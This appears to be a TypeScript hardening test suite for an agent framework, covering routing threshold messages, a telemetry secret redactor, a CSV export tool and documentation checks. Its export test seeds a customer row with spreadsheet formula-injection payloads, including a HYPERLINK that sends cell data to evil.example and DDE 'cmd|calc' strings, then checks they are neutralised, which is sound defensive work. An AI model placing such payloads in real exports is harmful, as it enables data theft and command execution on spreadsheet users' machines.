/** Issue 17 hardening, small defects of the telemetry, routing explanations and CLI formatting. */
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { isAbsolute, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, it } from 'node:test';
import { openBusinessDb } from '../../examples/enterprise/db.ts';
import { csvCell } from '../../examples/enterprise/tools/csv.ts';
import { createEnterpriseTools } from '../../examples/enterprise/tools/index.ts';
import type { ToolContext } from '../../src/core/tool.ts';
import { createMemoryStore } from '../../src/store/memory/store.ts';
import { createSystem } from '../../src/system.ts';
import { scriptedAgents, scriptedModelFor } from '../fixtures/journals/scripted-system.ts';
import type { JournalEvent } from '../../src/core/events.ts';
import { describeEvent } from '../../src/cli/trace.ts';
import { createRouter } from '../../src/routing/index.ts';
import { formatPair } from '../../src/routing/format.ts';
import { CIRCULAR, createRedactor, TOO_DEEP } from '../../src/telemetry/redact.ts';

/** A tiny deterministic PRNG, so a failing case can be reproduced from its seed. */
const prng = (seed: number) => (): number => {
  seed = (seed * 1664525 + 1013904223) >>> 0;
  return seed / 2 ** 32;
};

/** Every "a < b", "a ≥ b", "a is below the threshold b" printed in `text` holds for the printed numbers. */
function assertComparisonsTrue(text: string): number {
  const re = /(\d+\.\d+)\)?\s*(<|≥ threshold|≥|is below the threshold|\(threshold)\s*(\d+\.\d+)/g;
  let seen = 0;
  for (const m of text.matchAll(re)) {
    const a = Number(m[1]);
    const b = Number(m[3]);
    const holds = m[2] === '<' || m[2] === 'is below the threshold' ? a < b : a >= b;
    assert.ok(holds, `printed comparison is false: "${m[0]}" in ${text}`);
    seen++;
  }
  return seen;
}

describe('hardening #23: a printed comparison of confidence and threshold is true as printed', () => {
  const agents = [
    { name: 'billing', description: 'Refunds, invoices, charges and payment problems' },
    { name: 'shipping', description: 'Parcels, deliveries, carriers and tracking numbers' },
    { name: 'accounts', description: 'Passwords, logins, profiles and account settings' },
  ];
  const query = 'my parcel was charged twice';
  const confidence = createRouter(agents, { threshold: 0 }).route(query).confidence;

  it('formatPair orders the printed values as the numbers, for many close pairs', () => {
    const next = prng(17);
    for (let i = 0; i < 2000; i++) {
      const b = Math.round(next() * 100) / 100;
      const a = b + (next() - 0.5) * 10 ** -(1 + Math.floor(next() * 12));
      const [sa, sb] = formatPair(a, b);
      assert.equal(Math.sign(Number(sa) - Number(sb)), Math.sign(a - b), `${a} vs ${b}: ${sa} vs ${sb}`);
      assert.ok(sa.split('.')[1]!.length >= 2);
    }
    assert.deepEqual(formatPair(0.3496, 0.35), ['0.3496', '0.3500']);
    assert.deepEqual(formatPair(0.5, 0.25), ['0.50', '0.25']);
  });

  it("the router's reason and the trace line, just below and just above the threshold", () => {
    assert.ok(confidence > 0.01, `the query scores (${confidence})`);
    for (const delta of [1e-3, 4e-3, 1e-6, -1e-3, -4e-3, -1e-6]) {
      const threshold = confidence + delta;
      const d = createRouter(agents, { threshold }).route(query);
      assert.equal(d.choice === null, delta > 0);
      assert.ok(assertComparisonsTrue(d.reason) >= 1, d.reason);
      const e = (
        d.choice === null
          ? {
              type: 'route.escalated',
              data: { reason: d.reason, confidence: d.confidence, threshold, candidates: d.candidates },
            }
          : {
              type: 'route.decided',
              data: {
                agent: d.choice,
                method: d.method,
                confidence: d.confidence,
                threshold,
                reason: d.reason,
                candidates: d.candidates,
              },
            }
      ) as JournalEvent;
      const line = describeEvent({ ...e, runId: 'r', seq: 2, at: 0, v: 1 });
      assert.ok(assertComparisonsTrue(line.split('\n')[0]!) >= 2, line);
    }
  });
});

describe('hardening #10: no depth or shape lets a secret through the telemetry redactor', () => {
  const NAMES = [
    'authorization',
    'Authorization',
    'Proxy-Authorization',
    'x-api-key',
    'Cookie',
    'password',
    'client_secret',
    'accessToken',
  ];

  /** `secret` under `name`, in one of the shapes secrets arrive in. */
  const shapes: ((name: string, secret: string) => unknown)[] = [
    (n, s) => ({ [n]: s }),
    (n, s) => [[n, s]],
    (n, s) => [n, s],
    (n, s) => ['Host', 'shop.example', n, s, 'Accept', '*/*'],
    (n, s) => ({ rawHeaders: ['User-Agent', 'curl', n, s] }),
    (n, s) => new Map([[n, s]]),
    (n, s) =>
      new Map<string, unknown>([
        ['note', 'kept'],
        [n, { nested: s }],
      ]),
    (n, s) => ({ headers: [{ name: n, value: s }] }),
    (n, s) => new Headers({ [n]: s }),
    (n, s) => new URLSearchParams({ [n]: s }),
    (n, s) => ({ toJSON: () => ({ [n]: s }) }),
    (n, s) => new Map([['headers', new Map([[n, s]])]]),
    (_n, s) => `Authorization: Bearer ${s}`,
    (_n, s) => `https://api.example/v1?api_key=${s}&page=2`,
    (_n, s) => `x-api-key: ${s}\nAccept: */*`,
  ];

  /** Wrap `v` in `depth` random containers; sometimes a container refers back to itself. */
  function nest(next: () => number, v: unknown, depth: number): unknown {
    let out = v;
    for (let d = 0; d < depth; d++) {
      const r = Math.floor(next() * 7);
      const wrapped: unknown =
        r === 0
          ? { level: d, inner: out }
          : r === 1
            ? [out]
            : r === 2
              ? [1, out, 'x']
              : r === 3
                ? new Map([['k', out]])
                : r === 4
                  ? new Set([out])
                  : r === 5
                    ? { a: 1, b: [out, { c: 'd' }] }
                    : { data: out };
      if (next() < 0.15 && typeof wrapped === 'object' && wrapped && !Array.isArray(wrapped)) {
        (wrapped as Record<string, unknown>).self = wrapped;
      }
      out = wrapped;
    }
    return out;
  }

  it('a value under a secret name, in any shape at any depth (cycles included), is never exported', () => {
    const next = prng(10);
    const redactor = createRedactor();
    for (let i = 0; i < 3000; i++) {
      const secret = `s3cr3t${Math.floor(next() * 1e9).toString(36)}zz`;
      const name = NAMES[Math.floor(next() * NAMES.length)]!;
      const shape = shapes[i % shapes.length]!;
      const depth = Math.floor(next() * 45);
      const value = nest(next, { note: 'visible', payload: shape(name, secret) }, depth);
      const out = redactor.json(value, 1_000_000);
      assert.ok(!out.includes(secret), `shape ${i % shapes.length}, depth ${depth}: ${out.slice(0, 400)}`);
    }
  });

  it('a configured secret is never exported, as a value or a key, at any depth', () => {
    const next = prng(11);
    for (let i = 0; i < 1000; i++) {
      const secret = `cfg-${Math.floor(next() * 1e9).toString(36)}`;
      const redactor = createRedactor({ secrets: [secret] });
      const leaf = [`a ${secret} b`, { [secret]: 1 }, [secret], new Map([[secret, 'v']])][i % 4];
      const value = nest(next, { note: leaf }, Math.floor(next() * 45));
      assert.ok(!redactor.json(value, 1_000_000).includes(secret));
    }
  });

  it('ordinary values stay readable; the depth limit and cycles are marked, never raw', () => {
    const redactor = createRedactor();
    const shallow = JSON.parse(
      redactor.json({
        tools: ['lookup_order', 'refund_order', 'cancel'],
        headers: ['Host', 'shop.example', 'Accept', '*/*'],
        when: new Date(0),
        map: new Map([['region', 'eu']]),
        big: 10n,
      }),
    ) as Record<string, unknown>;
    assert.deepEqual(shallow, {
      tools: ['lookup_order', 'refund_order', 'cancel'],
      headers: ['Host', 'shop.example', 'Accept', '*/*'],
      when: '1970-01-01T00:00:00.000Z',
      map: [['region', 'eu']],
      big: '10',
    });
    let deep: Record<string, unknown> = { plain: 'no key names a secret here' };
    for (let d = 0; d < 30; d++) deep = { inner: deep };
    const out = redactor.json(deep, 1_000_000);
    assert.ok(!out.includes('no key names a secret here'));
    assert.ok(out.includes(TOO_DEEP));
    const cyclic: Record<string, unknown> = { name: 'loop' };
    cyclic.self = cyclic;
    assert.deepEqual(JSON.parse(redactor.json(cyclic)), { name: 'loop', self: CIRCULAR });
  });
});

/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n') {
      row.push(field);
      field = '';
      if (ch === '\n') {
        rows.push(row);
        row = [];
      }
    } else field += ch;
  }
  assert.equal(quoted, false, 'no quote left open');
  assert.equal(field + row.join(''), '', 'the file ends with a line break');
  return rows;
}

describe('hardening #13: the reference export tool', () => {
  it('returns a relative file name and writes formula-like cells as text', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sb-export-'));
    const biz = openBusinessDb(join(dir, 'business.db'));
    try {
      const hostile = {
        name: '=HYPERLINK("http://evil.example/?d="&B2,"Refund status")',
        email: '+cmd|calc!A0@evil.example',
        phone: '-2+3+cmd|calc!A0',
        tier: '@SUM(1+1)*cmd|calc!A0',
        language: '\t=1+1',
        city: '\r=1+1',
        postcode: 'Smith, "Jane"\nline 2',
      };
      await biz.run(
        `INSERT INTO customers (id, name, email, phone, tier, language, city, postcode, date_of_birth, created_at)
         VALUES ('CUS-9999', ?, ?, ?, ?, ?, ?, ?, '1990-01-01', '2025-01-01')`,
        ...Object.values(hostile),
      );
      const exportDir = join(dir, 'exports');
      const tool = createEnterpriseTools(biz, { exportDir }).all.find((t) => t.name === 'export_data');
      assert.ok(tool);
      const ctx = {
        runId: 'run_x',
        callId: 'c1',
        idempotencyKey: 'run_x:c1',
        attempt: 1,
        actorId: 'ops',
        sessionId: 's',
        agent: 'operations',
        signal: new AbortController().signal,
        progress: () => {},
        traceHeaders: { traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01' },
      } satisfies ToolContext;
      const result = (await tool.run({ dataset: 'customers' }, ctx)) as { file: string; rows: number };
      assert.ok(!isAbsolute(result.file) && !/[\\/]/.test(result.file), result.file);
      assert.ok(!JSON.stringify(result).includes(dir), 'no server path in the result');
      assert.deepEqual(readdirSync(exportDir), [result.file]);
      const rows = parseCsv(readFileSync(join(exportDir, result.file), 'utf8'));
      const header = rows[0]!;
      assert.equal(rows.length, result.rows + 1);
      for (const r of rows) assert.equal(r.length, header.length, 'every row has every column');
      const row: string[] | undefined = rows.find((r) => r[0] === 'CUS-9999');
      assert.ok(row);
      for (const [column, value] of Object.entries(hostile)) {
        const cell: string | undefined = row[header.indexOf(column)];
        if (column === 'postcode') assert.equal(cell, value, 'ordinary text round-trips');
        else assert.equal(cell, `'${value}`, `${column} is prefixed, so a spreadsheet shows it as text`);
      }
      // Numbers stay numbers.
      const orders = (await tool.run({ dataset: 'orders' }, { ...ctx, idempotencyKey: 'run_x:c2' })) as {
        file: string;
      };
      const orderRows = parseCsv(readFileSync(join(exportDir, orders.file), 'utf8'));
      const total = orderRows[0]!.indexOf('total_cents');
      assert.match(orderRows[1]![total]!, /^\d+$/);
      assert.equal(csvCell(-5), '-5');
      assert.equal(csvCell('-5'), `"'-5"`);
      assert.equal(csvCell(null), '');
    } finally {
      await biz.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('hardening #25: the docs name only API that exists, and no test asserts a speed', () => {
  const ROOT = fileURLToPath(new URL('../..', import.meta.url));

  it('every `system.<member>` the docs mention exists on a real System', async () => {
    const system = createSystem({
      agents: scriptedAgents(),
      model: scriptedModelFor(),
      store: createMemoryStore(),
      workers: false,
      onWarning: () => {},
    });
    const docs = [
      'README.md',
      ...readdirSync(join(ROOT, 'docs'))
        .filter((f) => f.endsWith('.md'))
        .map((f) => `docs/${f}`),
    ];
    // `system.approvals.decide(`, `app.system.start()`; not `reference-system.md` or `src/system.ts`.
    const mention = /(?<![\w/-])system\.([A-Za-z_]\w*(?:\.[A-Za-z_]\w*)*)/g;
    const missing: string[] = [];
    let checked = 0;
    for (const doc of docs) {
      for (const m of readFileSync(join(ROOT, doc), 'utf8').matchAll(mention)) {
        const path = m[1]!;
        if (/^(ts|js|md)$/.test(path)) continue;
        let target: unknown = system;
        for (const segment of path.split('.')) {
          target =
            typeof target === 'object' && target !== null && segment in target
              ? (target as Record<string, unknown>)[segment]
              : undefined;
        }
        checked++;
        if (target === undefined) missing.push(`${doc}: system.${path}`);
      }
    }
    assert.ok(checked >= 10, `found ${checked} mentions`);
    assert.deepEqual(missing, []);
  });

  /** `assert…(… elapsed < 300 …)`-like statements of a test file (upper bounds on a measured time). */
  function timingAssertions(text: string): string[] {
    const timed =
      /performance\.now\(\)|Date\.now\(\)\s*-|\b\w*(elapsed|latency|duration|took|seconds|Ms|ms)\w*\b/;
    const timers = [
      ...text.matchAll(/(?:const|let)\s+(\w+)\s*=\s*[^;\n]*(?:performance\.now\(\)|Date\.now\(\))\s*-/g),
    ].map((m) => new RegExp(`\\b${m[1]}\\b`));
    const found: string[] = [];
    for (const m of text.matchAll(/assert(?:\.\w+)?\(([^;]*?)\);/gs)) {
      const cmp = /([^,<>=]*?)\s*<=?\s*([\d_]+(?:\.\d+)?)/.exec(m[1]!);
      if (!cmp || Number(cmp[2]!.replaceAll('_', '')) <= 0) continue;
      if (timed.test(cmp[1]!) || timers.some((t) => t.test(cmp[1]!))) found.push(m[0].split('\n')[0]!);
    }
    return found;
  }

  it('no test file asserts an elapsed-time threshold (speed is measured in bench/ only)', () => {
    // The scan recognises the assertions it exists to forbid.
    assert.equal(
      timingAssertions(
        'const latency = performance.now() - sentAt;\nassert.ok(latency <= 300, `after ${latency} ms`);\n' +
          'assert.ok(elapsed <= 1000, "closed");\nassert.ok(Date.now() - started < 10_000, "x");\n' +
          'const waited = Date.now() - t0;\nassert.ok(waited < 50);',
      ).length,
      4,
    );
    assert.deepEqual(timingAssertions('assert.ok(admitted <= 10);\nassert.ok(totals.durationMs >= 0);'), []);
    const files: string[] = [];
    const walk = (dir: string): void => {
      for (const f of readdirSync(dir, { withFileTypes: true })) {
        if (f.isDirectory() && f.name !== 'fixtures' && f.name !== 'node_modules') walk(join(dir, f.name));
        else if (f.isFile() && f.name.endsWith('.ts')) files.push(join(dir, f.name));
      }
    };
    walk(join(ROOT, 'test'));
    assert.ok(files.length > 20);
    // This file holds the samples above.
    const self = fileURLToPath(import.meta.url);
    const found = files
      .filter((f) => f !== self)
      .flatMap((f) => timingAssertions(readFileSync(f, 'utf8')).map((a) => `${f.slice(ROOT.length)}: ${a}`));
    assert.deepEqual(found, []);
  });
});
